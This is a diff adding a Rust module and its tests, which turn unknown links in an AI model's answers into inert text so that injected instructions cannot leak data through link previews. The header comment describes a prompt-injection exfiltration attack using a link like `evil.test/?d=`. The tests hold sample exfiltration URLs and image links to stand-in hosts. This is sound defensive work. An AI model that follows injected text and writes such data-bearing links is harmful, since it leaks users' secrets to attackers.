@@ -1,0 +1,198 @@
+//! Links in answers of turns that hold something from outside: only those that stood there already stay links. Pure.
+//!
+//! A page that tells the model to write `https://evil.test/?d=<what it knows>` gains nothing: the platform would fetch
+//! such a link for a preview, without anybody's tap. A link that neither a person wrote nor a tool gave is shown, and is
+//! none any more: `hxxps://evil[.]test/…`. security.md row 15.
+
+use std::{borrow::Cow, collections::HashSet, sync::LazyLock};
+
+use regex::Regex;
+
+/// How what a platform may take for a link begins: with a scheme, with `www.`, or a host with a path or a query. No bound of
+/// words in front: `x_https://…` is one for some.
+static BEGINS: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(
+        r"(?xi)
+          [a-z][a-z0-9+.\-]{1,15} ://
+        | www\d{0,3}\.
+        | (?:[\p{L}\p{N}](?:[\p{L}\p{N}\-]{0,62}) \.)+ \p{L}{2,24} (?: :\d{1,5} )? [/?\#]",
+    )
+    .expect("the pattern is tested")
+});
+
+/// What no link goes on over.
+const ENDS: &str = "<>\"`|{}\\^、。，；：！？（）【】《》「」『』“”";
+
+/// The most links that are remembered.
+const MOST: usize = 10_000;
+
+/// The links that stood in what people wrote and tools gave.
+#[derive(Clone, Debug, Default)]
+pub struct Known(HashSet<String>);
+
+impl Known {
+    /// Remembers the links of a text.
+    pub fn learn(&mut self, text: &str) {
+        for link in links(text) {
+            if self.0.len() >= MOST {
+                return;
+            }
+            if !self.0.contains(bare(link)) {
+                self.0.insert(bare(link).to_owned());
+            }
+        }
+    }
+
+    fn has(&self, link: &str) -> bool {
+        self.0.contains(bare(link))
+    }
+
+    /// One of them may become this one.
+    fn begins_with(&self, link: &str) -> bool {
+        self.0.iter().any(|known| known.starts_with(link))
+    }
+}
+
+/// The same text; links that are not known are shown and are none any more. `going_on`: it is the beginning of an answer
+/// that is being written, so that its last link may still become a known one.
+pub fn delinked<'a>(text: &'a str, known: &Known, going_on: bool) -> Cow<'a, str> {
+    let mut out = String::new();
+    let mut done = 0;
+    for link in links(text) {
+        let start = link.as_ptr() as usize - text.as_ptr() as usize;
+        let end = start + link.len();
+        if known.has(link) || (going_on && end == text.len() && known.begins_with(link)) {
+            continue;
+        }
+        out.push_str(&text[done..start]);
+        out.push_str(&defanged(link));
+        done = end;
+    }
+    if done == 0 {
+        return Cow::Borrowed(text);
+    }
+    out.push_str(&text[done..]);
+    Cow::Owned(out)
+}
+
+/// The links of a text, in order; what is defanged is none.
+fn links(text: &str) -> impl Iterator<Item = &str> {
+    let mut at = 0;
+    std::iter::from_fn(move || {
+        loop {
+            let begins = BEGINS.find_at(text, at)?;
+            let link = whole(&text[begins.start()..], begins.len());
+            at = begins.start() + link.len().max(begins.len());
+            let defanged = link.get(..4).is_some_and(|scheme| scheme.eq_ignore_ascii_case("hxxp"));
+            if !defanged {
+                return Some(link);
+            }
+        }
+    })
+}
+
+/// The link that a text begins with, of which so many bytes are found: up to a blank or a mark, without what belongs to the
+/// sentence or to Markdown, which is closing marks, and a bracket that was not opened in it.
+fn whole(text: &str, found: usize) -> &str {
+    let mut depth = 0_i32;
+    let mut end = text.len();
+    for (at, c) in text.char_indices() {
+        match c {
+            '(' | '[' => depth += 1,
+            ')' | ']' if depth > 0 => depth -= 1,
+            ')' | ']' => {
+                end = at;
+                break;
+            }
+            c if c.is_whitespace() || c.is_control() || ENDS.contains(c) => {
+                end = at;
+                break;
+            }
+            _ => {}
+        }
+    }
+    let link = text[..end.max(found)].trim_end_matches(['.', ',', ';', ':', '!', '?', '\'', '*', '_', '~']);
+    if link.len() < found { &text[..found] } else { link }
+}
+
+/// How links are compared: as they are written, but for a slash at the end.
+fn bare(link: &str) -> &str {
+    link.trim_end_matches('/')
+}
+
+/// Readable, and no link for any platform: the scheme is not one, and the host has no dots.
+fn defanged(link: &str) -> String {
+    let (scheme, rest) = match link.split_once("://") {
+        Some((scheme, rest)) => (Some(scheme), rest),
+        None => (None, link),
+    };
+    let end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
+    let (host, path) = rest.split_at(end);
+    // A dot or an at-sign further on could begin another one.
+    let path = path.replace("://", "[:]//").replace('@', "[@]");
+    let host = host.replace('.', "[.]").replace('@', "[@]");
+    match scheme {
+        Some(scheme) if scheme.eq_ignore_ascii_case("https") => format!("hxxps://{host}{path}"),
+        Some(scheme) if scheme.eq_ignore_ascii_case("http") => format!("hxxp://{host}{path}"),
+        Some(scheme) => format!("{scheme}[:]//{host}{path}"),
+        None => format!("{host}{path}"),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn known() -> Known {
+        let mut known = Known::default();
+        known.learn("see https://example.org/a?b=1 and (https://docs.example.org/x_(y)), http://10.0.0.1:8080/");
+        known
+    }
+
+    #[test]
+    fn links_that_stood_there_stay_and_others_are_shown_and_are_none() {
+        for (text, expected) in [
+            ("no link at all, v1.2.3, a.b and 3.14/2", "no link at all, v1.2.3, a.b and 3.14/2"),
+            ("https://example.org/a?b=1.", "https://example.org/a?b=1."),
+            ("[here](https://docs.example.org/x_(y))!", "[here](https://docs.example.org/x_(y))!"),
+            ("http://10.0.0.1:8080", "http://10.0.0.1:8080"),
+            ("https://e.test/?d=SECRET", "hxxps://e[.]test/?d=SECRET"),
+            ("![](https://e.test/p.png?d=S)", "![](hxxps://e[.]test/p.png?d=S)"),
+            ("[https://example.org/a?b=1](HTTPS://e.test/x)", "[https://example.org/a?b=1](hxxps://e[.]test/x)"),
+            ("[a](https://e.test/1)[b](https://e.test/2)", "[a](hxxps://e[.]test/1)[b](hxxps://e[.]test/2)"),
+            ("https://example.org/a?b=1](https://e.test/(x", "https://example.org/a?b=1](hxxps://e[.]test/(x"),
+            ("<https://e.test/x>", "<hxxps://e[.]test/x>"),
+            ("看这里：https://e.test/泄露。好吗", "看这里：hxxps://e[.]test/泄露。好吗"),
+            ("e.test/?d=S and www.e.test", "e[.]test/?d=S and www[.]e[.]test"),
+            ("tg://resolve?domain=e", "tg[:]//resolve?domain=e"),
+            // One more letter is another link.
+            ("https://example.org/a?b=12", "hxxps://example[.]org/a?b=12"),
+            ("https://example.org@e.test/a", "hxxps://example[.]org[@]e[.]test/a"),
+            ("https://e.test/https://f.test/x", "hxxps://e[.]test/https[:]//f.test/x"),
+        ] {
+            assert_eq!(delinked(text, &known(), false), expected, "{text}");
+        }
+    }
+
+    #[test]
+    fn what_is_defanged_is_no_link_any_more() {
+        for text in ["https://e.test/?d=1", "www.e.test/x", "e.test/x?y", "a+b://x.y/z"] {
+            let once = delinked(text, &Known::default(), false).into_owned();
+            assert_eq!(delinked(&once, &Known::default(), false), once, "{text} → {once}");
+        }
+    }
+
+    #[test]
+    fn a_link_in_the_making_is_not_spoilt_when_it_can_become_a_known_one() {
+        assert_eq!(delinked("see https://exam", &known(), true), "see https://exam");
+        assert_eq!(delinked("see https://exam", &known(), false), "see hxxps://exam");
+        assert_eq!(delinked("see https://e.te", &known(), true), "see hxxps://e[.]te");
+        assert_eq!(delinked("https://exam is it", &known(), true), "hxxps://exam is it");
+    }
+
+    #[test]
+    fn a_long_text_takes_no_time() {
+        let text = "a.".repeat(500_000) + &"https://".repeat(100_000);
+        assert!(delinked(&text, &known(), false).len() >= text.len());
+    }
+}
